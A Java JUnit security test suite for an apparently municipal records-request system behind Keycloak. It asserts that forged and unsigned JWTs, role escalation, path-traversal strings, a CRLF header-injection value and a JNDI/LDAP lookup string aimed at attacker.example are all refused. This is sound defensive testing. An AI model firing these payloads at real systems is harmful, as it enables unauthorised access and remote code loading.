package org.acceso.systemtests;

import io.restassured.RestAssured;
import io.restassured.response.Response;
import org.acceso.systemtests.AccesoSystem.Service;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.acceso.systemtests.Gateway.anonymous;
import static org.acceso.systemtests.Gateway.as;
import static org.acceso.systemtests.Gateway.assertProblem;
import static org.acceso.systemtests.Gateway.awaitOrFail;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tries to break in through the front door of the whole system, with the real Keycloak: missing, expired, foreign,
 * tampered and unsigned tokens; tokens of other clients and realms; a signed-in user with no role in Acceso; people
 * reaching past their role or agency; path, header and body tricks. Each is refused with the right status and a
 * problem+json body that leaks nothing. Last, one filing is followed by its correlation id and trace id through the
 * logs of all four services.
 */
@ExtendWith(SharedSystem.class)
class SecurityIT {

    static final String SOME_ID = "0b6e3f57-2a43-4c1b-8d0e-3c6a1f2b7d44";
    static final List<String> PROTECTED = List.of("/api/requests", "/api/requests/mine", "/api/requests/" + SOME_ID,
            "/api/agencies", "/api/exemption-grounds", "/api/deadlines/" + SOME_ID, "/api/calendars/rosario/entries",
            "/api/compliance/summary", "/api/notifications/mine");

    @Test
    void everyProtectedPathWantsAToken() {
        for (String path : PROTECTED) {
            Response response = anonymous().get(path);
            assertProblem(response, 401);
            assertThat(response.header("WWW-Authenticate")).as(path).startsWith("Bearer");
        }
    }

    @Test
    void anExpiredTokenIsRefused() throws Exception {
        KeycloakAdmin admin = new KeycloakAdmin();
        admin.ensurePublicClient("security-suite-short-lived", Map.of("access.token.lifespan", "2"));
        String token = admin.passwordGrant("security-suite-short-lived", "ana", "ana");
        assertThat(withToken(token).get("/api/requests/mine").statusCode()).as("fresh token").isEqualTo(200);

        Thread.sleep(4_000);

        assertProblem(withToken(token).get("/api/requests/mine"), 401);
    }

    @Test
    void tokensOfAnotherRealmOrOfAClientOutsideTheApiAreRefused() {
        KeycloakAdmin admin = new KeycloakAdmin();
        String masterAdmin = SharedSystem.get().keycloak().adminToken();
        String otherClient = admin.passwordGrant("admin-cli", "ana", "ana"); // realm acceso, but no acceso-api audience

        for (String token : List.of(masterAdmin, otherClient)) {
            assertProblem(withToken(token).get("/api/requests/mine"), 401);
            assertProblem(RestAssured.given().config(Http.config()).auth().oauth2(token)
                    .get(SharedSystem.get().url(Service.REQUEST) + "/requests/mine"), 401);
        }
    }

    @Test
    void aTamperedOrUnsignedTokenIsRefused() {
        String token = SharedSystem.get().keycloak().accessToken("ana", "ana");
        String[] parts = token.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
        String elevated = base64(payload.replace("\"resident\"", "\"admin\""));
        String unsignedHeader = base64("{\"alg\":\"none\",\"typ\":\"JWT\"}");

        assertProblem(withToken(parts[0] + "." + elevated + "." + parts[2]).get("/api/requests/mine"), 401);
        assertProblem(withToken(unsignedHeader + "." + parts[1] + ".").get("/api/requests/mine"), 401);
        assertProblem(withToken(unsignedHeader + "." + elevated + ".").get("/api/agencies"), 401);
        assertProblem(RestAssured.given().config(Http.config()).auth().oauth2(unsignedHeader + "." + parts[1] + ".")
                .get(SharedSystem.get().url(Service.REQUEST) + "/requests/mine"), 401);
    }

    @Test
    void aSignedInUserWithNoRoleInAccesoIsForbidden() {
        KeycloakAdmin admin = new KeycloakAdmin();
        String nadie = admin.ensureUser("nadie");
        admin.removeDefaultRoles(nadie); // every new account is a resident (the realm's default roles) unless taken away
        String token = admin.passwordGrant("acceso-cli", "nadie@example.org", "nadie");

        Response response = withToken(token).get("/api/requests/mine");

        assertProblem(response, 403);
    }

    @Test
    void aBurstOfWrongPasswordsLocksTheAccountUntilItCoolsDown() {
        KeycloakAdmin admin = new KeycloakAdmin();
        String cerrojo = admin.ensureUser("cerrojo");
        String login = "cerrojo@example.org";
        admin.clearLockout(cerrojo);
        assertThat(admin.passwordGrantStatus(login, "cerrojo")).as("the right password, before").isEqualTo(200);

        for (int attempt = 1; attempt <= 3; attempt++) {
            assertThat(admin.passwordGrantStatus(login, "wrong-" + attempt)).as("wrong password %d", attempt).isEqualTo(400);
        }

        // failures less than a second apart lock the account at once (quickLoginCheckMilliSeconds), 60 s at least
        Map<String, Object> status = awaitOrFail("cerrojo locked out", Duration.ofSeconds(10), () -> admin.lockout(cerrojo),
                lockout -> Boolean.TRUE.equals(lockout.get("disabled")));
        assertThat(((Number) status.get("numFailures")).intValue()).isPositive();
        assertThat(admin.passwordGrantStatus(login, "cerrojo")).as("the right password, while locked: refused, "
                + "as a wrong one is (invalid_grant), so the lock tells an attacker nothing").isEqualTo(400);

        admin.clearLockout(cerrojo); // what an administrator does in the console
        assertThat(admin.passwordGrantStatus(login, "cerrojo")).as("the right password, after").isEqualTo(200);
    }

    @Test
    void aClerkOfAnotherAgencyLearnsNothingOfARequest() {
        Response filed = as("ana").body(Map.of("subject", "Vacunas en centros de salud municipales",
                "description", "Dosis aplicadas por centro en 2025.", "agencyCode", "SALUD")).post("/api/requests");
        assertThat(filed.statusCode()).isEqualTo(201);
        String id = filed.jsonPath().getString("id");

        for (Response response : List.of(as("carla").get("/api/requests/{id}", id),
                as("carla").get("/api/requests/{id}/history", id), as("carla").get("/api/requests/{id}/documents", id),
                as("carla").get("/api/deadlines/{id}", id))) {
            assertProblem(response, 404);
            assertThat(response.asString()).doesNotContain("Vacunas").doesNotContain("ana@example.org")
                    .doesNotContain(filed.jsonPath().getString("trackingNumber"));
        }
        assertThat(as("carla").get("/api/requests?agency=SALUD").statusCode()).isEqualTo(403);
    }

    @Test
    void aResidentCannotActAsStaff() {
        Response filed = as("ana").body(Map.of("subject", "Cuadrillas de bacheo", "description", "Cantidad por distrito.",
                "agencyCode", "OBRAS")).post("/api/requests");
        String id = filed.jsonPath().getString("id");

        assertProblem(as("ana").body(Map.of("outcome", "GRANTED", "text", "Sí")).post("/api/requests/{id}/answer", id), 403);
        assertProblem(as("ana").body(Map.of("agencyCode", "OBRAS")).post("/api/requests/{id}/assignment", id), 403);
        assertProblem(as("ana").body(Map.of("reason", "más tiempo")).post("/api/requests/{id}/extension", id), 403);
        assertProblem(as("ana").get("/api/compliance/summary"), 403);
        assertProblem(as("ana").body(Map.of("kind", "ADMINISTRATIVE_CLOSURE", "startsOn", "2027-01-04", "endsOn",
                "2027-01-04", "instrument", "Decreto 1/2027")).post("/api/calendars/rosario/entries"), 403);
        assertProblem(as("ana").body(Map.of("code", "TRUCHA", "name", "Falsa", "contactEmail", "x@example.org"))
                .post("/api/agencies"), 403);
        assertProblem(as("ana").contentType("application/x-ndjson").body("{}".getBytes(StandardCharsets.UTF_8)).post("/api/requests/import"), 403);
        assertProblem(as("fede").body(Map.of("outcome", "GRANTED", "text", "Sí")).post("/api/requests/{id}/answer", id), 403);
    }

    @Test
    void pathTricksAreRefusedBeforeReachingAnyService() {
        String gateway = SharedSystem.get().gatewayUrl();
        for (String path : List.of("/api/requests/..%2f..%2fq/health", "/api/requests/%2e%2e/deadlines/x",
                "/api/public/../requests/mine", "//api/requests/x", "/api//requests", "/api/requests/x%5c..",
                "/api/requests/%00")) {
            RawHttp.Reply reply = RawHttp.get(gateway, path);
            assertThat(reply.status()).as("%s → %s", path, reply.head()).isEqualTo(400);
            assertThat(reply.head()).as(path).containsIgnoringCase("content-type: application/problem+json");
            assertThat(reply.body()).as(path).doesNotContain("Exception").doesNotContain("at org.");
        }
    }

    @Test
    void injectedRequestIdsAreReplacedAndNoHeaderCanBeSmuggled() {
        for (String hostile : List.of("abc%0d%0aX-Injected: yes", "${jndi:ldap://attacker.example/a}", "x".repeat(300))) {
            Response response = as("ana").header("X-Request-Id", hostile).get("/api/requests/mine");
            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.header("X-Request-Id")).as("replacement for %s", hostile)
                    .matches("[0-9a-f-]{36}").isNotEqualTo(hostile);
            assertThat(response.header("X-Injected")).isNull();
        }
    }

    @Test
    void oversizedHeadersWrongTypesAndOversizedBodiesAreRefused() {
        assertProblem(as("ana").header("X-Padding", "p".repeat(20_000)).get("/api/requests/mine"), 431);
        assertProblem(as("ana").contentType("text/plain").body("hola").post("/api/requests"), 415);
        assertProblem(as("ana").body("{\"subject\":\"" + "x".repeat(1_100_000) + "\"}").post("/api/requests"), 413);
    }

    @Test
    void aPreflightFromAnotherOriginIsNotAllowed() {
        Response preflight = anonymous().header("Origin", "https://attacker.example")
                .header("Access-Control-Request-Method", "POST").options("/api/requests");

        assertThat(preflight.header("Access-Control-Allow-Origin")).isNull();
    }

    @Test
    void oneFilingCanBeFollowedThroughTheLogsOfAllFourServices() throws IOException {
        String requestId = "sec-" + UUID.randomUUID();
        Response filed = as("ana").header("X-Request-Id", requestId)
                .body(Map.of("subject", "Seguimiento de una solicitud", "description", "Para seguirla en los registros."))
                .post("/api/requests");
        assertThat(filed.statusCode()).isEqualTo(201);
        assertThat(filed.header("X-Request-Id")).isEqualTo(requestId);

        AccesoSystem system = SharedSystem.get();
        for (Service service : List.of(Service.GATEWAY, Service.REQUEST, Service.DEADLINE, Service.NOTIFICATION)) {
            awaitOrFail(requestId + " in the log of " + service, Duration.ofSeconds(60),
                    () -> Files.readString(system.logOf(service)), log -> log.contains(requestId));
        }
        Matcher trace = Pattern.compile("cid=" + Pattern.quote(requestId) + " trace=([0-9a-f]{32})")
                .matcher(Files.readString(system.logOf(Service.REQUEST)));
        assertThat(trace.find()).as("a trace id next to %s in request-service's log", requestId).isTrue();
        String traceId = trace.group(1);
        for (Service service : List.of(Service.DEADLINE, Service.NOTIFICATION)) {
            assertThat(Files.readString(system.logOf(service))).as("trace %s in %s's log", traceId, service)
                    .contains("trace=" + traceId);
        }
        for (Service service : List.of(Service.REQUEST, Service.DEADLINE)) {
            String metrics = RestAssured.given().config(Http.config()).get(system.url(service) + "/q/metrics").asString();
            assertThat(metrics).as("%s /q/metrics", service).contains("acceso_outbox_backlog")
                    .contains("acceso_outbox_oldest_unsent_age_seconds");
        }
    }

    private static io.restassured.specification.RequestSpecification withToken(String token) {
        return anonymous().auth().oauth2(token);
    }

    private static String base64(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    /** The realm's admin REST API, as the master realm's administrator: to make the users and clients an attack needs. */
    static final class KeycloakAdmin {

        private final KeycloakServer keycloak = SharedSystem.get().keycloak();
        private final String token = keycloak.adminToken();

        void ensurePublicClient(String clientId, Map<String, String> attributes) {
            Response created = admin().body(Map.of("clientId", clientId, "enabled", true, "publicClient", true,
                    "standardFlowEnabled", false, "directAccessGrantsEnabled", true, "attributes", attributes,
                    "protocolMappers", List.of(Map.of("name", "acceso-api audience", "protocol", "openid-connect",
                            "protocolMapper", "oidc-audience-mapper", "config", Map.of(
                                    "included.custom.audience", "acceso-api", "access.token.claim", "true",
                                    "id.token.claim", "false")))))
                    .post(keycloak.url() + "/admin/realms/" + KeycloakServer.REALM + "/clients");
            assertThat(created.statusCode()).as("create client %s: %s", clientId, created.asString()).isIn(201, 409);
        }

        /**
         * Makes the user {@code <name>@example.org} (password {@code name}) unless it exists; returns its id. The realm
         * makes the e-mail address the user name of every account (registrationEmailAsUsername), so it signs in with it.
         */
        String ensureUser(String name) {
            String email = name + "@example.org";
            Response created = admin().body(Map.of("username", email, "enabled", true, "email", email,
                            "emailVerified", true, "firstName", "Sin", "lastName", "Rol",
                            "credentials", List.of(Map.of("type", "password", "value", name, "temporary", false))))
                    .post(realm() + "/users");
            assertThat(created.statusCode()).as("create user %s: %s", email, created.asString()).isIn(201, 409);
            List<String> ids = admin().queryParam("email", email).queryParam("exact", true).get(realm() + "/users")
                    .jsonPath().getList("id", String.class);
            assertThat(ids).as("user %s", email).hasSize(1);
            return ids.get(0);
        }

        /** Takes the realm's default roles (and with them {@code resident}) away from a user. */
        void removeDefaultRoles(String userId) {
            Map<String, Object> role = admin().get(realm() + "/roles/default-roles-acceso").jsonPath().getMap("$");
            Response removed = admin().body(List.of(Map.of("id", role.get("id"), "name", role.get("name"))))
                    .delete(realm() + "/users/" + userId + "/role-mappings/realm");
            assertThat(removed.statusCode()).as("remove the default roles: %s", removed.asString()).isEqualTo(204);
        }

        /** The realm's brute-force detection's view of a user ({@code disabled}, {@code numFailures}, ...). */
        Map<String, Object> lockout(String userId) {
            return admin().get(realm() + "/attack-detection/brute-force/users/" + userId).jsonPath().getMap("$");
        }

        void clearLockout(String userId) {
            assertThat(admin().delete(realm() + "/attack-detection/brute-force/users/" + userId).statusCode()).isEqualTo(204);
        }

        /** The status of a password grant of {@code acceso-cli}: 200, or 400 ({@code invalid_grant}) when refused. */
        int passwordGrantStatus(String username, String password) {
            return RestAssured.given().config(Http.config())
                    .formParam("grant_type", "password").formParam("client_id", KeycloakServer.CLI_CLIENT)
                    .formParam("username", username).formParam("password", password)
                    .post(keycloak.issuer() + "/protocol/openid-connect/token").statusCode();
        }

        private String realm() {
            return keycloak.url() + "/admin/realms/" + KeycloakServer.REALM;
        }

        /**
         * A new user with {@code realmRole} and these attributes (e.g. a clerk's {@code agency}, a {@code locale}), who
         * has never signed in; returns their user id.
         */
        String createUser(String username, String email, String firstName, String lastName,
                          Map<String, List<String>> attributes, String realmRole) {
            String users = keycloak.url() + "/admin/realms/" + KeycloakServer.REALM + "/users";
            Response created = admin().body(Map.of("username", username, "enabled", true, "email", email,
                            "emailVerified", true, "firstName", firstName, "lastName", lastName, "attributes", attributes,
                            "credentials", List.of(Map.of("type", "password", "value", username, "temporary", false))))
                    .post(users);
            assertThat(created.statusCode()).as("create user %s: %s", username, created.asString()).isEqualTo(201);
            String location = created.header("Location");
            String id = location.substring(location.lastIndexOf('/') + 1);
            Response role = admin().get(keycloak.url() + "/admin/realms/" + KeycloakServer.REALM + "/roles/" + realmRole);
            assertThat(role.statusCode()).as("role %s: %s", realmRole, role.asString()).isEqualTo(200);
            Response mapped = admin().body(List.of(Map.of("id", role.jsonPath().getString("id"), "name", realmRole)))
                    .post(users + "/" + id + "/role-mappings/realm");
            assertThat(mapped.statusCode()).as("grant %s to %s: %s", realmRole, username, mapped.asString()).isEqualTo(204);
            Response read = admin().get(users + "/" + id);
            assertThat(read.jsonPath().getMap("attributes")).as("attributes of %s as Keycloak keeps them", username)
                    .containsAllEntriesOf(attributes);
            return id;
        }

        String passwordGrant(String clientId, String username, String password) {
            Response response = RestAssured.given().config(Http.config())
                    .formParam("grant_type", "password").formParam("client_id", clientId)
                    .formParam("username", username).formParam("password", password).formParam("scope", "openid")
                    .post(keycloak.issuer() + "/protocol/openid-connect/token");
            assertThat(response.statusCode()).as("token for %s from %s: %s", username, clientId, response.asString())
                    .isEqualTo(200);
            return response.jsonPath().getString("access_token");
        }

        private io.restassured.specification.RequestSpecification admin() {
            return RestAssured.given().config(Http.config()).auth().oauth2(token).contentType("application/json");
        }
    }
}
